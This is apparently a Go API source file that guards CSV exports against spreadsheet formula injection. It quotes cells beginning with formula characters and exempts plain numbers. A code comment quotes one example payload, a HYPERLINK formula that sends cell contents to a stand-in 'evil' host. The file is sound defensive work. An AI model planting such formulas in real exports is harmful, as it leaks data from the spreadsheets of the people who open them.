package api

import (
	"encoding/csv"
	"net/http"
	"regexp"
	"strings"
)

// csvWriter is the one CSV writer every export of the API goes through
// (catchment, latency and changes ?format=csv, the UI's Download CSV). It
// neutralises cells a spreadsheet would run as a formula: identity
// strings come from measured servers and probe ids from volunteers, so a
// cell such as =HYPERLINK("http://evil/?"&A1) is attacker-controlled.
//
// Following OWASP's CSV injection guidance, a cell whose first character
// (after leading spaces, which some spreadsheets skip) is = + - @ tab or
// carriage return is prefixed with a single quote, which spreadsheets
// show as text and do not display; encoding/csv quotes cells holding
// quotes, commas and line breaks. Plain numbers such as -1.5 or +Inf are
// left as they are: they cannot call anything and must stay numbers.
type csvWriter struct {
	w   *csv.Writer
	rec []string
}

// newCSV starts a CSV answer with its header row.
func newCSV(w http.ResponseWriter, header []string) *csvWriter {
	w.Header().Set("Content-Type", "text/csv; charset=utf-8")
	w.WriteHeader(http.StatusOK)
	cw := &csvWriter{w: csv.NewWriter(w)}
	_ = cw.Write(header) // a failed write shows again on Flush; nobody to tell
	return cw
}

// Write writes one record with every cell neutralised.
func (c *csvWriter) Write(rec []string) error {
	c.rec = c.rec[:0]
	for _, cell := range rec {
		c.rec = append(c.rec, csvCell(cell))
	}
	return c.w.Write(c.rec)
}

// Flush writes buffered rows out.
func (c *csvWriter) Flush() { c.w.Flush() }

// csvNumber matches what the exports write for numbers, infinities
// included (strconv's +Inf/-Inf): signed, they cannot call anything.
var csvNumber = regexp.MustCompile(`^[-+]?([0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?|Inf)$`)

// csvCell returns s as a cell no spreadsheet evaluates.
func csvCell(s string) string {
	t := strings.TrimLeft(s, " ")
	if t == "" {
		return s
	}
	switch t[0] {
	case '=', '+', '-', '@', '\t', '\r':
		if csvNumber.MatchString(s) {
			return s
		}
		return "'" + s
	}
	return s
}
